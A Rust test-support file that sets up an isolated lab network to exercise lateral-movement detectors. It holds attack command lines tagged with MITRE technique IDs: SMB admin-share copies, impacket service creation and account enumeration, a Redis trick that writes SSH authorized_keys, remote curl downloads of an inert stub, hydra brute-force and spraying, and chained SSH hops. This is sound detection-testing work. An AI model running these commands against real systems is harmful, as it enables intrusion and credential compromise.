//! Who lives in the network of the test of lateral movement: servers, an administrator of one of
//! them, and hosts that walk from server to server with the same tools.

use std::fs::Permissions;
use std::net::IpAddr;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Child;

use crate::keys;
use crate::netns::Lab;

/// Programs that they use, and the folder of impacket's.
pub(crate) const TOOLS: [&str; 17] = [
    "smbd",
    "smbpasswd",
    "smbclient",
    "rpcclient",
    "sshd",
    "ssh",
    "scp",
    "ssh-keygen",
    "redis-server",
    "redis-cli",
    "vsftpd",
    "hydra",
    "curl",
    "python3",
    "mount",
    "timeout",
    IMPACKET,
];

/// Where Debian's python3-impacket has its programs; they are on no search path.
const IMPACKET: &str = "/usr/share/doc/python3-impacket/examples";

const SERVER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/server.sh");
const WORK: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/administrator.sh");

/// Who administers [`OFFICE`], and nothing else.
pub(crate) const ADMINISTRATOR: &str = "10.77.0.60";

/// The server that the administrator cares for.
const OFFICE: &str = "10.77.0.30";

/// The servers that everybody walks over.
const VICTIMS: [&str; 5] = ["10.77.0.31", "10.77.0.32", "10.77.0.33", "10.77.0.34", "10.77.0.35"];

/// What each of them, and [`OFFICE`], offers.
const SERVICES: [(&str, u16); 4] = [("smb", 445), ("ssh", 22), ("redis", 6379), ("ftp", 21)];

/// Of the accounts `operator` (an administrator) and `office` (nobody in particular).
const PASSWORD: &str = "Correct-Horse-7";

/// The same as `openssl passwd -6 -salt inertsalt` says it.
const PASSWORD_HASH: &str = "$6$inertsalt$y6Y1425BDcJ5SoeXhy2sw2RnyvaST31RFQVdwqsFBl1/J0QImdyulTO\
                             ixzNjifIZCMoNzbmLf1YpG7Qq6ET1//";

/// A host that goes from server to server: what it does, in shell, and what should be told of it.
pub(crate) struct Walker {
    pub(crate) name: &'static str,
    pub(crate) address: &'static str,
    /// Who logs in to it by SSH and has it walk; by itself it does if there is none.
    entered_from: Option<&'static str>,
    pub(crate) line: &'static str,
    pub(crate) detector: &'static str,
    pub(crate) techniques: &'static [&'static str],
}

impl Walker {
    /// The address as such.
    pub(crate) fn host(&self) -> IpAddr {
        self.address.parse().unwrap()
    }
}

/// One walker for each way from host to host. `stub.exe` is a header and zeros, and runs nowhere.
pub(crate) const WALKERS: [Walker; 10] = [
    Walker {
        name: "copy",
        address: "10.77.0.121",
        entered_from: None,
        line: r#"for host in $VICTIMS; do
            smbclient -A operator.login "//$host/ADMIN\$" -c 'put stub.exe svcupd.exe'
        done"#,
        detector: "lateral.admin_share",
        techniques: &["T1021.002", "T1570"],
    },
    // Samba answers that it creates no services, so this is a walker whom every host refuses. Should a
    // call hang, the walk goes on without that host and comes back to it.
    Walker {
        name: "service",
        address: "10.77.0.122",
        entered_from: None,
        line: r#"for host in $VICTIMS $VICTIMS $VICTIMS; do
            timeout 15 python3 $IMPACKET/services.py $LOGIN@$host create \
                -name Updater -display Updater -path 'C:\Windows\svcupd.exe'
        done"#,
        detector: "lateral.service",
        techniques: &["T1021.002", "T1569.002"],
    },
    Walker {
        name: "accounts",
        address: "10.77.0.123",
        entered_from: None,
        line: "for host in $VICTIMS $VICTIMS; do
            timeout 15 python3 $IMPACKET/samrdump.py $LOGIN@$host
        done",
        detector: "lateral.enumeration",
        techniques: &["T1087.001", "T1069.001"],
    },
    Walker {
        name: "sessions",
        address: "10.77.0.124",
        entered_from: None,
        line: "python3 $IMPACKET/netview.py /$LOGIN -targets victims -noloop",
        detector: "lateral.enumeration",
        techniques: &["T1033", "T1049"],
    },
    Walker {
        name: "redis",
        address: "10.77.0.125",
        entered_from: None,
        line: "for host in $VICTIMS; do
            redis-cli -h $host SET note 'written by a test'
            redis-cli -h $host CONFIG SET dir $PWD/$host/.ssh
            redis-cli -h $host CONFIG SET dbfilename authorized_keys
            redis-cli -h $host SAVE
        done",
        detector: "lateral.database",
        techniques: &["T1098.004", "T1190"],
    },
    Walker {
        name: "serve",
        address: "10.77.0.126",
        entered_from: None,
        line: r#"python3 -m http.server 8000 --directory site &
        until curl -s http://127.0.0.1:8000/ >/dev/null; do sleep 0.2; done
        for host in $VICTIMS; do
            ssh -F ssh_config root@$host "curl -s http://10.77.0.126:8000/stub.exe >/dev/null"
        done"#,
        detector: "lateral.dropper",
        techniques: &["T1021", "T1105", "T1570"],
    },
    Walker {
        name: "guess",
        address: "10.77.0.127",
        entered_from: None,
        line: "hydra -I -l office -P words -t 4 ftp://10.77.0.35",
        detector: "auth.bruteforce",
        techniques: &["T1110.001"],
    },
    Walker {
        name: "spray",
        address: "10.77.0.128",
        entered_from: None,
        line: "for host in $VICTIMS; do hydra -I -L names -p Winter2026! -t 4 ftp://$host; done",
        detector: "auth.spray",
        techniques: &["T1110.003"],
    },
    // A key that opens every host: somebody enters the first, which enters the second.
    Walker {
        name: "first",
        address: "10.77.0.129",
        entered_from: Some("stranger"),
        line: "for host in $VICTIMS; do ssh -F ssh_config root@$host hostname; done",
        detector: "lateral.ssh",
        techniques: &["T1021.004", "T1563.001"],
    },
    Walker {
        name: "second",
        address: "10.77.0.130",
        entered_from: Some("first"),
        line: "for host in $VICTIMS; do ssh -F ssh_config root@$host hostname; done",
        detector: "lateral.ssh",
        techniques: &["T1021.004", "T1563.001"],
    },
];

/// Puts into `folder` what hosts share: accounts and keys, and what tools need.
pub(crate) fn furnish(folder: &Path) {
    let write = |name: &str, text: &str| std::fs::write(folder.join(name), text).unwrap();
    // Servers that give up their rights have to get to what is theirs.
    std::fs::set_permissions(folder, Permissions::from_mode(0o755)).unwrap();
    let path = folder.display();

    let machine = std::fs::read_to_string("/etc/passwd").unwrap();
    write(
        "passwd",
        &format!("{machine}operator:x:0:0::/root:/bin/sh\noffice:x:65534:65534::/:/bin/sh\n"),
    );
    let account = |name: &str| format!("{name}:{PASSWORD_HASH}:20000:0:99999:7:::\n");
    let accounts = account("operator") + &account("office");
    write("shadow", &format!("root:*:20000:0:99999:7:::\n{accounts}"));
    write("password", PASSWORD);
    write("operator.login", &format!("username = operator\npassword = {PASSWORD}\n"));

    keys::make(&folder.join("host_key"));
    keys::make(&folder.join("key"));
    std::fs::copy(folder.join("key.pub"), folder.join("authorized_keys")).unwrap();
    write(
        "ssh_config",
        &format!(
            "IdentityFile {path}/key\nUserKnownHostsFile /dev/null\nStrictHostKeyChecking no\n\
             BatchMode yes\nConnectTimeout 20\nLogLevel ERROR\n"
        ),
    );

    write("report.txt", "All is well.\n");
    write("victims", &(VICTIMS.join("\n") + "\n"));
    write("words", &(0..30).map(|n| format!("Password{n}!\n")).collect::<String>());
    write("names", "anna\nben\nclara\ndavid\nemma\nfelix\ngreta\nhans\nida\njonas\nkarla\nleo\n");
    let stub = [&b"MZ"[..], &[0; 4094]].concat();
    std::fs::create_dir(folder.join("site")).unwrap();
    std::fs::write(folder.join("site/stub.exe"), &stub).unwrap();
    std::fs::write(folder.join("stub.exe"), &stub).unwrap();
}

/// Servers, and the walkers that are entered and so have to be some. All are open when it returns.
pub(crate) fn open_servers(lab: &mut Lab, folder: &Path) {
    let mut doors = Vec::new();
    for (number, address) in [OFFICE].into_iter().chain(VICTIMS).enumerate() {
        doors.extend(open_server(lab, folder, &format!("server{number}"), address, &SERVICES));
    }
    for walker in WALKERS.iter().filter(|walker| walker.entered_from.is_some()) {
        doors.extend(open_server(lab, folder, walker.name, walker.address, &[("ssh", 22)]));
    }
    for (name, port) in doors {
        lab.await_listener(&name, port);
    }
}

fn open_server(
    lab: &mut Lab,
    folder: &Path,
    name: &str,
    address: &str,
    services: &[(&str, u16)],
) -> Vec<(String, u16)> {
    lab.host(name, address);
    std::fs::create_dir(folder.join(address)).unwrap();
    let folder = folder.to_str().unwrap();
    for (service, _) in services {
        lab.serve(name, "sh", &[SERVER, folder, address, service]);
    }
    services.iter().map(|&(_, port)| (name.to_owned(), port)).collect()
}

/// Lets the administrator work until the lab ends.
pub(crate) fn let_administrator_work(lab: &mut Lab, folder: &Path) {
    lab.host("admin", ADMINISTRATOR);
    let path = folder.display();
    let line = format!("{}exec sh {WORK} {path} {OFFICE} >administrator.log 2>&1", setting(folder));
    lab.serve_shell("admin", &line);
}

/// How often the administrator has been through all their work.
pub(crate) fn rounds(folder: &Path) -> usize {
    std::fs::read_to_string(folder.join("rounds")).map_or(0, |text| text.lines().count())
}

/// Plugs in everybody who walks or has somebody walk, and lets them begin.
pub(crate) fn unleash(lab: &mut Lab, folder: &Path) -> Vec<Child> {
    lab.host("stranger", "10.77.0.120");
    for walker in WALKERS.iter().filter(|walker| walker.entered_from.is_none()) {
        lab.host(walker.name, walker.address);
    }
    WALKERS.iter().map(|walker| start(lab, walker, folder)).collect()
}

fn start(lab: &Lab, walker: &Walker, folder: &Path) -> Child {
    let line = format!("{}{}", setting(folder), walker.line);
    let mut command = match walker.entered_from {
        None => {
            let mut command = lab.inside_whole(walker.name, "sh");
            command.args(["-c", &line]);
            command
        }
        Some(from) => {
            let mut command = lab.inside_whole(from, "ssh");
            command.args(["-F", "ssh_config", &format!("root@{}", walker.address), &line]);
            command
        }
    };
    let log = std::fs::File::create(folder.join(format!("{}.log", walker.name))).unwrap();
    command.current_dir(folder).stdout(log.try_clone().unwrap()).stderr(log).spawn().unwrap()
}

/// What stands before each line of shell.
fn setting(folder: &Path) -> String {
    format!(
        "cd {}\nexport VICTIMS='{}' PASSWORD={PASSWORD} LOGIN=operator:{PASSWORD} IMPACKET={IMPACKET}\n",
        folder.display(),
        VICTIMS.join(" "),
    )
}
